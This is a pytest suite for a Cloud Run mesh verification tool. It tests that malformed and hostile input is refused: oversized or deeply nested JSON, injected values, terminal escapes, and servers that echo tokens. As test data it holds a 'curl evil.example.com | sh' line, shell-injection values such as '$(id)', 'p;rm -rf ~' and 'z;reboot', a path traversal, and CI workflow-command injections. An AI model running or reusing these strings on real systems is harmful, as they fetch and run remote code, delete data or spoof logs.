"""Hostile and careless input at the `verify` door (issue 17): the outputs file and the servers' answers.

Each row states the exit code, the message, and the time (and, where it matters, memory) it may take.
The limits are those of docs/input-limits.md, "The smoke check".
"""

from __future__ import annotations

import io
import json
import os
import re
import sys
import threading
import time
import tracemalloc
import types

import fortio_standin as fs
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from verify_support import (
    SLACK,
    TOKEN,
    Lines,
    attempt_lines,
    cloud_run,
    fake_cli,
    host,
    jwt,
    loopback_only,
    no_ambient_credentials,
    raw_servers,
    run_verify,
    stack,
    verify_captured,
    write_outputs,
)

from cloudrun_mesh import text as safe
from cloudrun_mesh.verify import check, probe, support, targets, tokens

RUN_URL = "https://mesh-svc-123456789012.us-central1.run.app"
GOOD = stack({"mesh-svc": RUN_URL}, ["ads"])
MB = 1024 * 1024


def with_(**changes) -> dict:
    out = json.loads(json.dumps(GOOD))
    out.update(changes)
    return out


def lines_are_safe(text: str) -> None:
    """What reaches a terminal or a CI log: one printable line each, no workflow command."""
    for line in text.split("\n"):
        assert line.isprintable(), repr(line)
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


# --------------------------------------------------------------------------------------------
# The outputs file: what it is, how big, how deep, and what it holds
# --------------------------------------------------------------------------------------------

def _fifo(tmp_path) -> str:
    path = tmp_path / "outputs.fifo"
    os.mkfifo(path)
    return str(path)


def _directory(tmp_path) -> str:
    return str(tmp_path)


def _device(tmp_path) -> str:
    return "/dev/zero"


def _bytes(data: bytes):
    def write(tmp_path) -> str:
        path = tmp_path / "outputs.json"
        path.write_bytes(data)
        return str(path)
    return write


def _json(value):
    return _bytes(json.dumps(value).encode())


NL_KEY = "mesh-svc\n::error title=X::y"
NOT_REGULAR = (r"cannot read the outputs file .*: the outputs file is not a regular file \(a FIFO, device, socket or "
               r"directory\); give the path of a file\. Write it with `pulumi stack output")
ANSI = "\x1b[31mred\x1b[0m"
TOO_MANY = {f"c{i:02d}-web": {f"s{j:03d}": f"https://c{i:02d}-web-1.a.run.app/fortio/fetch/s{j:03d}.mesh.private"
                              for j in range(1001)} for i in range(10)}

# (id, file, message (regex), seconds, peak bytes or None)
OUTPUTS = [
    ("fifo", _fifo, NOT_REGULAR, 1, None),
    ("directory", _directory, NOT_REGULAR, 1, None),
    ("device", _device, r"cannot read the outputs file /dev/zero: the outputs file is not a regular file", 1, None),
    ("too large", _bytes(b" " * (targets.MAX_OUTPUTS_BYTES + 1)),
     r"the outputs file is 4,194,305 bytes; at most 4,194,304 are read", 2, 3 * targets.MAX_OUTPUTS_BYTES),
    ("200,000 [", _bytes(b"[" * 200_000), r"refused before parsing: they hold 200,000 arrays and objects", 1, 8 * MB),
    ("65 deep", _bytes(b"[" * 65 + b"]" * 65), r"refused before parsing: they nest 65 levels deep, more than the "
     r"limit of 64", 1, None),
    ("unpaired", _bytes(b"]" * 100_000), r"not valid JSON \(their brackets do not pair up\)", 1, None),
    ("5,000 digits", _bytes(b'{"fetchUrls": ' + b"9" * 5000 + b"}"), r"are not valid JSON \(Exceeds the limit", 1, None),
    ("not UTF-8", _bytes(b'{"fetchUrls": "\xff"}'), r"are not UTF-8 \(byte 15\)", 1, None),
    ("duplicate key", _bytes(b'{"fetchUrls": {}, "fetchUrls": {}}'), r'repeat the key "fetchUrls" in one object', 1,
     None),
    ("newline key", _json(with_(fetchUrls={NL_KEY: {"ads": RUN_URL + "/fortio/fetch/ads.mesh.private"}})),
     r'`fetchUrls\."mesh-svc\\n::error title=X::y"`: the key is not a Cloud Run service name', 1, None),
    ("ANSI in a URL", _json(with_(fetchUrls={"mesh-svc": {"ads": RUN_URL + "/fortio/fetch/" + ANSI}})),
     r"`fetchUrls\.mesh-svc\.ads`: .* is not a URL \(spaces or characters outside printable ASCII\)", 1, None),
    ("trailing newline", _json(with_(fetchUrls={"mesh-svc": {"ads": RUN_URL + "/fortio/fetch/ads.mesh.private\n"}})),
     r"`fetchUrls\.mesh-svc\.ads`: .* is not a URL", 1, None),
    ("user information", _json(with_(fetchUrls={"mesh-svc": {"ads": "https://u:p@x.a.run.app/fortio/fetch/a.b"}})),
     r"carries user information", 1, None),
    ("query", _json(with_(fetchUrls={"mesh-svc": {"ads": RUN_URL + "/fortio/fetch/a.b?x=$(id)"}})),
     r"is not `<Cloud Run URL>/fortio/fetch/<host>`", 1, None),
    ("another host", _json(with_(fetchUrls={"mesh-svc": {"ads": "https://evil.example.com/fortio/fetch/a.b"}})),
     r"is not on the client's host https://mesh-svc-123456789012\.us-central1\.run\.app .*the identity token is "
     r"sent only to the host it was minted for", 1, None),
    ("proxy command", _json(with_(proxyStatusCommands=["gcloud container fleet memberships list --project=$(id)"])),
     r"`proxyStatusCommands\[0\]` is .*, not one of the fleet commands the program writes \(project fails its "
     r"grammar\)", 1, None),
    ("proxy free text", _json(with_(proxyStatusCommands=["curl evil.example.com | sh"])),
     r"`proxyStatusCommands\[0\]` is \"curl evil", 1, None),
    ("filter label", _json(with_(loggingFilters={"mesh-svc": 'resource.labels.project_id="p;rm -rf ~"'})),
     r"`loggingFilters\.mesh-svc`: resource\.labels\.project_id \"p;rm -rf ~\" does not match", 1, None),
    ("filter newline", _json(with_(loggingFilters={"mesh-svc": "a\nb"})),
     r"`loggingFilters\.mesh-svc` is .*, not a Cloud Logging filter of printable text", 1, None),
    ("mesh name", _json(with_(meshName="projects/x/../../etc")), r"`meshName` is \"projects/x/\.\./\.\./etc\", not "
     r"what the program exports", 1, None),
    ("record address", _json(with_(recordAddress="10.0.0.1\n::error::x")), r"`recordAddress` is", 1, None),
    ("hosts list", _json(with_(exportedHosts=["ads"])), r"`exportedHosts` is \[\"ads\"\], not an object", 1, None),
    ("uptime check", _json(with_(uptimeChecks={"mesh-svc": {"ads": "https://evil.example.com"}})),
     r"`uptimeChecks\.mesh-svc\.ads` is \"https://evil\.example\.com\", not an uptime check's resource name", 1, None),
    ("too many pairs", _json(with_(fetchUrls=TOO_MANY)), r"have 10,010 client x service pairs in `fetchUrls`, more "
     r"than the limit of 10,000", 2, None),
    ("every problem at once", _json(with_(meshName=1, dnsZone=2, recordAddress=3, exportedHosts=4, cloudRunUrls=5,
                                          loggingFilters=6)),
     r"`cloudRunUrls` is 5, not an object; .*; and 1 more\. They are not what", 1, None),
]


@pytest.mark.parametrize("name, make, message, seconds, peak", OUTPUTS, ids=[o[0] for o in OUTPUTS])
def test_hostile_outputs_file(tmp_path, capsys, name, make, message, seconds, peak):
    path = make(tmp_path)
    tracemalloc.start()
    try:
        code, out, err, elapsed = run_verify(capsys, "--outputs", path, "--token", TOKEN, "--deadline", "5")
        _, used = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert (code, out) == (2, ""), err
    assert re.search(message, err), err
    assert err.startswith("error: ") and len(err.strip().split("\n")) == 1 and "Traceback" not in err
    lines_are_safe(err.rstrip("\n"))
    assert elapsed < seconds, elapsed
    if peak is not None:
        assert used < peak, used


def test_outputs_from_a_bottomless_stdin_are_bounded(capsys, monkeypatch):
    served = [0]

    class Endless(io.RawIOBase):
        def readable(self) -> bool:
            return True

        def readinto(self, b) -> int:
            b[:] = b" " * len(b)
            served[0] += len(b)
            return len(b)

    monkeypatch.setattr(sys, "stdin", types.SimpleNamespace(buffer=io.BufferedReader(Endless())))
    code, _, err, elapsed = run_verify(capsys, "--outputs", "-", "--token", TOKEN, "--deadline", "5")
    assert code == 2 and "larger than the limit of 4,194,304 bytes" in err
    assert served[0] <= targets.MAX_OUTPUTS_BYTES + 1 + io.DEFAULT_BUFFER_SIZE
    assert elapsed < 2




def test_brackets_inside_strings_are_not_nesting():
    text = json.dumps({"fetchUrls": {"mesh-svc": {"ads": "[" * 1000}}, "note": "\\\"[[[{"}).encode()
    assert safe.json_shape_problem(text, 64, 100) is None
    assert safe.json_shape_problem(b'["\\\\", [[]]]', 2, 100) == "they nest 3 levels deep, more than the limit of 2"


@pytest.mark.slow
def test_json_memory_stays_within_the_stated_bound(tmp_path):
    """The worst shapes: many short strings, many numbers, one wide object. Parsed JSON grows in proportion
    to the file, so an eighth of the size limit shows the ratio (tracemalloc makes the whole limit slow)."""
    limit = targets.MAX_OUTPUTS_BYTES // 8
    shapes = {
        "strings": b'{"x": [' + b",".join([b'"ab"'] * (limit // 6)) + b"]}",
        "floats": b'{"x": [' + b",".join([b"1.5"] * (limit // 5)) + b"]}",
        "keys": b"{" + b",".join(b'"k%d":0' % i for i in range(limit // 12)) + b"}",
    }
    for name, data in shapes.items():
        assert len(data) <= limit, name
        tracemalloc.start()
        try:
            with pytest.raises(support.VerifyError):
                targets.read_targets(targets.parse_outputs(data, "x"))
            _, used = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert used < 40 * limit, (name, used)  # docs/input-limits.md, "The smoke check": at most 40 bytes per byte of the file


# --------------------------------------------------------------------------------------------
# Server answers: escapes, workflow commands, partial tokens, size
# --------------------------------------------------------------------------------------------

HOSTILE_BODY = (f"{ANSI} \x9b31m\r\n::error title=pwned::owned\n  ::add-mask::x\n##[error]legacy \u202eevil"
                "\x00\x07\x08 \u2028next").encode()


def injecting(h) -> None:
    h.send_response(500)
    h.send_header("Content-Length", str(len(HOSTILE_BODY)))
    h.end_headers()
    h.wfile.write(HOSTILE_BODY)


def echoing(h) -> None:
    """Echoes the token back in pieces: a prefix, split by spaces and controls, and in a Location header."""
    token = h.headers.get(probe.TOKEN_HEADER, "").split(" ", 1)[-1]
    pieces = [token[:40], " ".join(token[i:i + 10] for i in range(0, len(token), 10)),
              "\x00".join(token[i:i + 5] for i in range(0, len(token), 5)), token[7:15], token[-9:]]
    body = " | ".join(pieces).encode()
    h.send_response(302 if "fetch2" not in h.path else 500)
    h.send_header("Location", f"https://elsewhere.example.com/{token[:40]}?\x1b[2J\x9b31m")
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


def huge(h) -> None:
    h.send_response(500)
    h.send_header("Content-Length", str(512 * MB))
    h.end_headers()
    chunk = b"x" * 65536
    try:
        for _ in range(512 * 16):
            h.wfile.write(chunk)
    except OSError:
        return


def many_headers(h) -> None:
    h.send_response(500)
    for i in range(1000):
        h.send_header(f"x-{i}", "y" * 100)
    h.end_headers()


def no_token_run(text: str, token: str) -> None:
    """No RUN or more consecutive characters of the token, spaces and controls skipped, outside a marker."""
    for piece in text.split(safe.REDACTED):
        compact = "".join(ch for ch in piece if ch.isprintable() and not ch.isspace())
        for i in range(len(token) - safe.SECRET_RUN + 1):
            assert token[i:i + safe.SECRET_RUN] not in compact, (token[i:i + safe.SECRET_RUN], piece)


def test_answers_that_try_to_inject(capsys, write_outputs):
    with raw_servers() as start:
        url = start(injecting)
        code, out, err, elapsed = run_verify(capsys, "--outputs", write_outputs(stack({"mesh-svc": url}, ["ads"])),
                                             "--token", TOKEN, "--deadline", "0.3", "--timeout", "0.5")
    assert code == 1
    assert attempt_lines(out, "mesh-svc -> ads")[0] == (1, "500")
    lines_are_safe(out.rstrip("\n") + "\n" + err.rstrip("\n"))
    assert "\x1b" not in out and "[31mred" in out and "##\\x5b" in out  # shown, harmless
    assert elapsed < 0.3 + 0.5 + SLACK


@pytest.mark.parametrize("token", [TOKEN, "opaque-S3cret-value-that-is-not-a-jwt-0123456789"])
def test_partial_tokens_never_show(capsys, write_outputs, token):
    with raw_servers() as start:
        url = start(echoing)
        code, out, err, _ = run_verify(capsys, "--outputs", write_outputs(stack({"mesh-svc": url}, ["ads"])),
                                       "--token", token, "--deadline", "0.3", "--timeout", "0.5")
    assert code == 1 and "the client's URL answered with a redirect (HTTP 302)" in out
    no_token_run(out + err, token)
    assert "to https://elsewhere.example.com/[redacted]?\\x1b[2J\\x9b31m" in out
    lines_are_safe(out.rstrip("\n"))


def test_redacted_in_an_input_error_too(tmp_path, capsys):
    token = "opaque-S3cret-value-that-is-not-a-jwt-0123456789"
    path = tmp_path / "outputs.json"
    path.write_text(json.dumps({"fetchUrls": {token[3:30]: {}}}))
    code, _, err, _ = run_verify(capsys, "--outputs", str(path), "--token", token)
    assert code == 2 and "[redacted]" in err
    no_token_run(err, token)


def test_a_huge_answer_is_read_only_to_its_cap(capsys, write_outputs):
    with raw_servers() as start:
        url = start(huge)
        tracemalloc.start()
        try:
            code, out, _, elapsed = run_verify(capsys, "--outputs", write_outputs(stack({"mesh-svc": url}, ["ads"])),
                                               "--token", TOKEN, "--deadline", "0.3", "--timeout", "1")
            _, used = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert code == 1 and attempt_lines(out, "mesh-svc -> ads")[0] == (1, "500")
    assert used < 4 * MB, used  # each answer keeps probe.MAX_BODY bytes, not 512 MB
    assert elapsed < 0.3 + 1 + SLACK


def test_a_thousand_headers_are_a_protocol_error(capsys, write_outputs):
    with raw_servers() as start:
        url = start(many_headers)
        code, out, _, elapsed = run_verify(capsys, "--outputs", write_outputs(stack({"mesh-svc": url}, ["ads"])),
                                           "--token", TOKEN, "--deadline", "0.3", "--timeout", "0.5")
    assert code == 1 and attempt_lines(out, "mesh-svc -> ads")[0] == (1, "protocol")
    assert "got more than 100 headers" in out
    assert elapsed < 0.3 + 0.5 + SLACK


# --------------------------------------------------------------------------------------------
# The token goes only to its audience's host
# --------------------------------------------------------------------------------------------


def test_the_token_is_not_sent_to_another_host(cloud_run, capsys):
    """Past the outputs check too: the scheduler refuses a URL whose origin is not the client's."""
    audience = cloud_run({host("ads"): fs.DESTINATION_OK})
    other = cloud_run({host("ads"): fs.DESTINATION_OK})
    t = targets.read_targets(stack({"mesh-svc": audience.url}, ["ads"]))
    t.pairs = [targets.Pair("mesh-svc", "ads", other.url + "/fortio/fetch/ads.mesh.private", "ads.mesh.private")]
    lines: list[str] = []
    budget = support.Budget(0.3, 0.5)
    code = check.check(t, tokens.Tokens(TOKEN, None, budget, 0.5), budget, support.Printer(Lines(lines), Lines(lines)))
    assert code == 1
    assert other.requests == [] and audience.requests == []
    assert any("not sent: http://127.0.0.1:" in line and "is not the token's audience" in line for line in lines)


# --------------------------------------------------------------------------------------------
# Concurrency: a bounded pool, every pair tried or reported, within the deadline
# --------------------------------------------------------------------------------------------


def hanging(h) -> None:
    h.server.release.wait(30)


@pytest.mark.slow
def test_ten_clients_by_a_thousand_services_stay_bounded(tmp_path):
    clients = [f"c{i:02d}-web" for i in range(10)]
    services = [f"s{j:03d}" for j in range(1000)]
    peak = {"verify": 0, "request": 0}
    done = threading.Event()

    def sample() -> None:
        while not done.wait(0.005):
            names = [t.name for t in threading.enumerate()]
            peak["verify"] = max(peak["verify"], sum(n.startswith("verify-") for n in names))
            peak["request"] = max(peak["request"], names.count("cloudrun-mesh-verify"))

    with raw_servers() as start:
        url = start(hanging)
        path = tmp_path / "outputs.json"
        path.write_text(json.dumps(stack({c: url for c in clients}, services)))
        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        try:
            code, out, err, elapsed = verify_captured("--outputs", str(path), "--token", TOKEN, "--deadline", "1",
                                                      "--timeout", "0.5", real_time=True)
        finally:
            done.set()
            sampler.join()

    assert code == 1, err
    assert elapsed <= 1 + 0.5 + 1.5, elapsed  # deadline + timeout, with room for 10,000 summary lines
    assert peak["verify"] <= check.MAX_WORKERS, peak
    assert peak["request"] <= 2 * check.MAX_WORKERS, peak
    summary = re.findall(r"^  (?:ok|FAIL)  (\S+ -> \S+)", out, re.M)
    assert len(summary) == len(set(summary)) == 10_000
    not_tried = len(re.findall(r"not tried: no attempt fitted in the deadline$", out, re.M))
    tried = len(re.findall(r"^\S+ -> \S+\s+attempt  1 ", out, re.M))
    assert tried + not_tried == 10_000 and tried > 0 and not_tried > 0
    assert "Diagnosis" in out and re.search(r"^  Pairs \(\d+\): .* and \d+ more$", out, re.M)
    assert f"{check.MAX_WORKERS} at a time" in out


@pytest.mark.slow
def test_requests_that_outlive_their_limit_do_not_pile_up(tmp_path, monkeypatch):
    """A request thread that cannot be interrupted (a name lookup, say) is abandoned at its limit but keeps
    its slot until it returns: no more than two per worker are ever alive."""
    release = threading.Event()

    def stuck(url, token, limit):
        release.wait(3)
        return probe.Outcome("timeout", 0, error="stuck")

    monkeypatch.setattr(probe, "_request", stuck)
    services = [f"s{j:03d}" for j in range(400)]
    path = tmp_path / "outputs.json"
    path.write_text(json.dumps(stack({"mesh-svc": RUN_URL}, services)))
    peak = [0]
    done = threading.Event()

    def sample() -> None:
        while not done.wait(0.005):
            peak[0] = max(peak[0], [t.name for t in threading.enumerate()].count("cloudrun-mesh-verify"))

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        code, out, _, elapsed = verify_captured("--outputs", str(path), "--token", TOKEN, "--deadline", "1",
                                                "--timeout", "0.1", real_time=True)
    finally:
        done.set()
        release.set()
        sampler.join()
    assert code == 1
    assert peak[0] <= 2 * check.MAX_WORKERS, peak
    assert elapsed <= 1 + 0.1 + SLACK + 0.5


# --------------------------------------------------------------------------------------------
# Commands printed for pasting quote what they hold
# --------------------------------------------------------------------------------------------


def test_commands_quote_their_values():
    """Even values that got past the grammar (a Targets built by hand) are quoted for the shell."""
    from cloudrun_mesh.verify import diagnosis as diag

    t = targets.read_targets(stack({"mesh-svc": RUN_URL}, ["ads"]))
    t.clients["mesh-svc"] = targets.Client("mesh-svc", RUN_URL, "p$(id)", "r`x`", None)
    t.dns_zone = "z;reboot"
    pair = targets.Pair("mesh-svc", "a b", RUN_URL + "/fortio/fetch/x", "x")
    follow = diag.Outcome("http", 5, status=400, body='Error for "http://x/": Get "http://x/": dial tcp: lookup x: '
                                                       "no such host\n")
    result = check.PairResult(pair, [diag.Outcome("http", 5, status=503)], follow)
    finding = diag.explain(result, t, tokens.Tokens(TOKEN, None, support.Budget(1, 1), 1), 1)
    joined = "\n".join(finding.commands)
    assert "--project='p$(id)'" in joined and "--zone='z;reboot'" in joined and "--region='r`x`'" in joined
    assert "$(id)" not in joined.replace("'p$(id)'", "")


# --------------------------------------------------------------------------------------------
# Property tests: the redactor and the log escaper, whatever the text
# --------------------------------------------------------------------------------------------


TOKEN_CHARS = st.sampled_from("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.")
SEPARATORS = st.sampled_from([" ", "  ", "\n", "\t", "\x00", "\x1b", "\u2028"])


@st.composite
def leaked(draw):
    secret = draw(st.text(TOKEN_CHARS, min_size=safe.SECRET_RUN, max_size=120))
    start = draw(st.integers(0, len(secret) - safe.SECRET_RUN))
    end = draw(st.integers(start + safe.SECRET_RUN, len(secret)))
    run = secret[start:end]
    cuts = sorted(draw(st.lists(st.integers(1, len(run) - 1), max_size=4, unique=True)))
    pieces = [run[a:b] for a, b in zip([0] + cuts, cuts + [len(run)], strict=True)]
    split = "".join(p + (draw(SEPARATORS) if i < len(pieces) - 1 else "") for i, p in enumerate(pieces))
    before, after = draw(st.text(max_size=60)), draw(st.text(max_size=60))
    return secret, before + split + after


@settings(max_examples=300, deadline=None)
@given(leaked())
def test_redactor_removes_any_run_of_the_secret(case):
    secret, text = case
    out = safe.Redactor([secret])(text)
    no_token_run(out, secret)


@settings(max_examples=300, deadline=None)
@given(st.text(TOKEN_CHARS, min_size=safe.SECRET_RUN, max_size=80), st.text(max_size=200))
def test_redactor_on_any_text(secret, text):
    no_token_run(safe.Redactor([secret])(text), secret)


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=300))
@example("::error title=X::y")
@example(" \t::add-mask::secret")
@example("   ::add-mask::secret")
@example("note ##[error]legacy")
@example("right-to-left \u202eevil\u2066")
def test_log_lines_are_printable_and_never_a_workflow_command(text):
    line = safe.terminal(text)
    assert "\n" not in line
    lines_are_safe(line)


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
                    max_leaves=25)
KEYS = st.sampled_from(["fetchUrls", "cloudRunUrls", "exportedHosts", "loggingFilters", "proxyStatusCommands",
                        "meshName", "dnsZone", "recordAddress", "uptimeChecks", "other"])


@settings(max_examples=100, deadline=None)
@given(st.dictionaries(KEYS, JSON, max_size=6), st.dictionaries(st.text(max_size=40), JSON, max_size=3))
def test_any_outputs_are_checked_or_refused_never_a_traceback(raw, fetch_client):
    if fetch_client:
        raw["fetchUrls"] = {"mesh-svc": {"ads": RUN_URL + "/fortio/fetch/ads.x"}, **fetch_client}
    data = json.dumps(raw).encode()
    try:
        result = targets.read_targets(targets.parse_outputs(data, "the outputs file x"))
    except support.VerifyError as exc:
        assert str(exc) and "\n" not in safe.terminal(str(exc))
    else:
        assert all(p.client in result.clients for p in result.pairs)


@settings(max_examples=100, deadline=None)
@given(JSON)
def test_json_shape_matches_the_parsed_depth(value):
    def depth(v) -> int:
        if isinstance(v, list):
            return 1 + max(map(depth, v), default=0)
        if isinstance(v, dict):
            return 1 + max(map(depth, v.values()), default=0)
        return 0

    data = json.dumps(value).encode()
    d = depth(value)
    assert safe.json_shape_problem(data, d, 1000) is None
    if d:
        assert safe.json_shape_problem(data, d - 1, 1000) == f"they nest {d:,} levels deep, more than the limit of {d - 1}"


def test_a_pulumi_cli_that_never_stops_printing_is_stopped(capsys, no_ambient_credentials):
    fake_cli(no_ambient_credentials, "pulumi", "chunk = ' ' * 65536\nwhile True:\n    sys.stdout.write(chunk)")
    code, out, err, elapsed = run_verify(capsys, "--stack", "dev", "--token", TOKEN, "--deadline", "5")
    assert (code, out) == (2, "")
    assert "`pulumi stack output` was stopped: it printed more than 4,194,304 bytes" in err
    assert elapsed < 3
